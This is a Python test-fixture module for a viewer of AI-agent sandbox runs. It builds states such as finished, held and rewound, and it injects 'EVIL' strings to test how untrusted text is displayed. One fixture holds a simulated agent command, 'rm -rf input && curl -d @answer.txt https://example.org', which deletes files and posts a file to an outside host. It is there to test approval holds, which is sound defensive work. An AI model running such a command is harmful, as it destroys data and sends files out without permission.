"""The states in which the view can be, each as a record and what a person does in it: for tests and for pictures."""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable
from typing import Any

from card_runs import PROTECTION, start_event, step_events
from playwright.sync_api import Page, expect
from view_page import bundle, page_html

from llm_sandbox_nb.trajectory import events as ev

HOST = """
window.done = [];
const take = name => async (...given) => { window.done.push([name, ...given]); return EVIL; };
const old = {
  files: async (checkpoint, path) => ({ path: path || '/testbed', base: false, total: 9, files: [
    { path: `/testbed/${EVIL}`, kind: 'directory', size: 0 },
    { path: '/testbed/l', kind: 'link', size: 1, target: EVIL },
    { path: `/testbed/a${EVIL}`, kind: 'file', size: 5 }, { path: '/testbed/notes', kind: 'file', size: 5 } ] }),
  read: async (checkpoint, path) => new TextEncoder().encode(`${checkpoint} ${EVIL}`),
  changes: async (from, to) => ({ total: 2, incomplete: EVIL, changes: [
    { path: `/${EVIL}`, kind: 'modified', size: 1 }, { path: '/x', kind: EVIL, size: 1 } ] }),
  diff: async (from, to, path) => ({ diff: `--- a\\n+++ b\\n-${EVIL}\\n+${from} to ${to}\\n`, note: EVIL })
};
function begin(bundle, server) {
  const controls = { stop: take('stop'), pause: take('pause'), resume: take('resume'), say: take('say') };
  const decisions = Object.fromEntries(
    ['continue', 'step', 'edit', 'skip', 'observe', 'change'].map(name => [name, take(name)]));
  const preview = async () => ({
    steps_left: 0, own: { total: 1, paths: [{ path: '/x', kind: 'modified', size: 1 }] },
    others: { total: 1, paths: [{ path: `/${EVIL}`, kind: EVIL, size: 1 }] }, other_runs: [EVIL], by: EVIL,
    incomplete: EVIL });
  const timeTravel = { preview, rewind: take('rewind'), undo: take('undo'), fork: take('fork'),
    resume: take('resume') };
  const { view } = lsn.show(bundle, server ? { controls, decisions, history: old, timeTravel } : {});
  view.setLive(server);
  view.flush();
  window.view = view;
}
"""
"""What a server offers, as a script: `done` is what was asked of it, and it answers with `EVIL`."""
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000" "1f15c4890000000d49444154789c6360f8cfc0000000030001"
    "5b0c0f9c0000000049454e44ae426082"
)  # fmt: skip
LINES = "".join(f"line {number}\n" for number in range(1, 61))
FAILING: dict[str, Any] = {"exit_code": 2, "stderr": "Traceback\nKeyError: 'pop'\n"}


def chained(events: list[ev.Event]) -> list[ev.Event]:
    for before, event in itertools.pairwise(events):
        event.parent = event.parent or before.id
    return events


def long_run(count: int, failing: tuple[int, ...] = ()) -> list[ev.Event]:
    """A run of so many steps, of which some failed, to its end."""
    events: list[ev.Event] = [
        start_event("What is the mean price in the four files?"),
        ev.SandboxReady(sandbox_id="s", protection=PROTECTION, start_time=0.2, root="/testbed"),
    ]
    for number in range(1, count + 1):
        more = FAILING if number in failing else {}
        events += step_events(number, f"I look at part {number}. Then I go on.", LINES, **more)
    answer = "The mean price is **12.50**."
    return [*events, ev.RunFinished(stop_reason="submitted", answer=answer, steps=count, wall_time=90.0)]


def edit_events(number: int) -> list[ev.Event]:
    made = {"command": "create", "path": "/testbed/a.py", "file_text": "import os\nprint(os.name)\n"}
    diff = "--- /dev/null\n+++ b/testbed/a.py\n@@ -0,0 +1,2 @@\n+import os\n+print(os.name)\n"
    change = ev.FileDiff(path="/testbed/a.py", kind="added", size=24, diff=diff)
    events = step_events(number, "I write **a module**.", "/testbed/a.py was created.", changes=[change])
    for event in events:
        if isinstance(event, ev.CallProposed | ev.CallStarted):
            event.tool, event.arguments = "str_replace_editor", made
        if isinstance(event, ev.CallFinished):
            event.stdout, event.exit_code = "", None
    return events


def saved(path: str, size: int = 100) -> ev.ArtifactSaved:
    return ev.ArtifactSaved(step=2, path=path, mime="", size=size, sha256=f"{hash(path) % 10**8:064d}")


SVG = (
    b"<svg xmlns='http://www.w3.org/2000/svg' width='200' height='100'><rect width='200' height='100'/></svg>"
)
FILES = {"poster.png": PIXEL, "plan.svg": SVG, "table.csv": b"a,b\n1,2\n", "notes.txt": b"hello\n"}


def finished() -> list[ev.Event]:
    end = ev.RunFinished(
        stop_reason="submitted", answer="See `a.py` and [this](https://example.org).", steps=4
    )
    start = long_run(2, (2,))[:-1]
    files = [saved(path, len(data)) for path, data in FILES.items()]
    return [
        *start,
        *edit_events(3),
        *step_events(4),
        *files,
        ev.Noted(text="The budget is nearly spent."),
        end,
    ]


def refused() -> list[ev.Event]:
    message = "openai/x refused the key: set OPENAI_API_KEY."
    return [
        *long_run(1)[:-1],
        ev.ModelRequested(step=2),
        ev.ModelFailed(step=2, attempt=1, error="authentication", message=message),
        ev.RunFinished(stop_reason="model_error", error=message, steps=2),
    ]


def running() -> list[ev.Event]:
    events = step_events(3, "I train the model.", LINES)
    return [*long_run(2, (1,))[:-1], *events[:-1]]


def rewound() -> list[ev.Event]:
    """Five steps, back to step 4, and a run that was forked off."""
    events = chained([*long_run(4)[:-1], ev.Checkpointed(step=4, checkpoint="c4"), *step_events(5)])
    back = next(one.id for one in events if isinstance(one, ev.Checkpointed))
    gone = [ev.RewindStarted(to=back, step=4), ev.Rewound(to=back, step=4, target="c4", safety="c5")]
    fork = ev.Forked(run_id="r2", folder="20260101-fork", step=2, parent=back)
    return chained([*events, *gone, fork])


def held_back() -> list[ev.Event]:
    """The same while its kernel runs: it waits there."""
    return [*rewound(), ev.Controlled(action="paused")]


def held(at: str = "call") -> list[ev.Event]:
    """A command that destroys files waits for a person; or it is over, and its result waits."""
    events = step_events(3, "I clean up.", LINES)
    for event in events:
        if isinstance(event, ev.CallProposed | ev.CallStarted):
            event.arguments = {"command": "rm -rf input && curl -d @answer.txt https://example.org"}
    reason = "approval" if at == "call" else "step"
    waits = ev.CallHeld(step=3, call_id="call_3", at=at, reason=reason, text="")  # type: ignore[arg-type]
    shown = events[:3] if at == "call" else events
    return [*long_run(2, (1,))[:-1], *shown, waits, ev.Controlled(action="paused")]


def ended(reason: Any) -> list[ev.Event]:
    return [*long_run(2)[:-1], ev.RunFinished(stop_reason=reason, steps=2, usage=ev.Usage(cost=0.5))]


def press(*names: str) -> Callable[[Page], None]:
    """Buttons, one after the other; what the last opens has been read."""

    def pressed(page: Page) -> None:
        for name in names:
            page.get_by_role("button", name=name).first.click()
        page.wait_for_function(
            "() => ![...document.querySelectorAll('.lsn-told, .lsn-note, .lsn-banner [role=status]')]"
            ".some(one => /…$|Looking at/.test(one.textContent))"
        )

    return pressed


def away(page: Page) -> None:
    page.evaluate("() => { view.setAway('server'); view.flush(); }")
    expect(page.locator(".lsn-badge").first).to_contain_text("does not answer")


THEN: dict[str, Callable[[Page], None]] = {
    "server away": away,
    "editing": press("Edit…"),
    "denying": press("Deny"),
    "rewinding": press("Rewind to the end of step 4"),
    "files": press("Files at step 4"),
    "comparing": press("Compare attempts"),
    "keys": lambda page: page.locator(".lsn-view").press("?"),
}
"""What a person does in the states of these names."""

STATES: dict[str, tuple[Callable[[], list[ev.Event]], bool]] = {
    "finished": (finished, False),
    "failed": (refused, False),
    "long": (lambda: long_run(30, (9, 18)), False),
    "running": (running, True),
    "thinking": (lambda: [*long_run(2)[:-1], ev.ModelRequested(step=3)], True),
    "rewound": (rewound, False),
    "cut off": (lambda: long_run(2)[:-1], False),
    "held": (held, True),
    "editing": (held, True),
    "denying": (held, True),
    "held result": (lambda: held("observation"), True),
    "paused": (lambda: [*running(), ev.Controlled(action="paused")], True),
    "ready": (held_back, True),
    "rewinding": (held_back, True),
    "files": (held_back, True),
    "comparing": (rewound, False),
    "server away": (running, True),
    "budget reached": (lambda: ended("cost"), False),
    "step limit": (lambda: ended("steps"), False),
    "interrupted": (lambda: ended("interrupted"), False),
    "keys": (finished, False),
}
ON_ALL = {"finished", "failed", "long", "running", "thinking", "rewound", "cut off", "held", "ready"}
"""The other states differ from these in a few elements only: light and dark, side by side with nothing else."""

SCREENS: dict[str, dict[str, Any]] = {
    "light": {"viewport": {"width": 1280, "height": 800}, "color_scheme": "light"},
    "dark": {"viewport": {"width": 1280, "height": 800}, "color_scheme": "dark"},
    "narrow": {"viewport": {"width": 800, "height": 800}, "color_scheme": "light"},
    "zoomed": {"viewport": {"width": 640, "height": 400}, "device_scale_factor": 2, "color_scheme": "dark"},
}


def state_page(script: str, style: str, evil: str = "x") -> str:
    """A page for `show`, whose server says `evil` wherever it may say something."""
    page = page_html(script, style, f"const EVIL = {json.dumps(evil)};{HOST}")
    return page.replace("<!doctype html>", "<!doctype html><html lang='en'><title>run</title>")


def show(
    page: Page, events: list[ev.Event], live: bool = False, capped: bool = False, evil: str = ""
) -> None:
    """The run, with everything that a server offers while it is live; `evil` stands after each of its texts."""
    run = bundle(chained(events), FILES)
    if evil:
        run["events"] = [with_evil(event, evil) for event in run["events"]]
    page.evaluate(
        "([run, live, capped]) => { begin(run, live); if (capped) { place = document.getElementById('view');"
        " const view = new lsn.TrajectoryView(new lsn.PlainHost(run), { live, capped }); view.add(...run.events);"
        " place.replaceChildren(view.node); view.flush(); } }",
        [run, live, capped],
    )
    page.wait_for_function("() => !document.querySelector('[aria-busy=true]')")


TEXTS = {
    "task", "model", "content", "reasoning", "command", "observation", "stdout", "stderr", "answer", "error", "message",
    "text", "diff", "note", "notice", "file_text", "folder", "protects", "does_not_protect", "role", "reason",
}  # fmt: skip
"""Fields of events in which a model, a sandbox or a server may say anything."""
FIXED = {"call.held", "run.finished"}
"""Kinds of events whose `reason` is one of a list."""


def with_evil(value: Any, evil: str) -> Any:
    """The same with this after each text."""
    if isinstance(value, list):
        return [with_evil(one, evil) for one in value]
    if not isinstance(value, dict):
        return value
    said = TEXTS - ({"reason"} if value.get("kind") in FIXED else set())
    return {
        key: one + evil if key in said and isinstance(one, str) else with_evil(one, evil)
        for key, one in value.items()
    }


def show_state(page: Page, name: str, evil: str = "") -> None:
    """A state of `STATES`, with what a person does in it."""
    make, live = STATES[name]
    show(page, make(), live, evil=evil)
    if name in THEN:
        THEN[name](page)
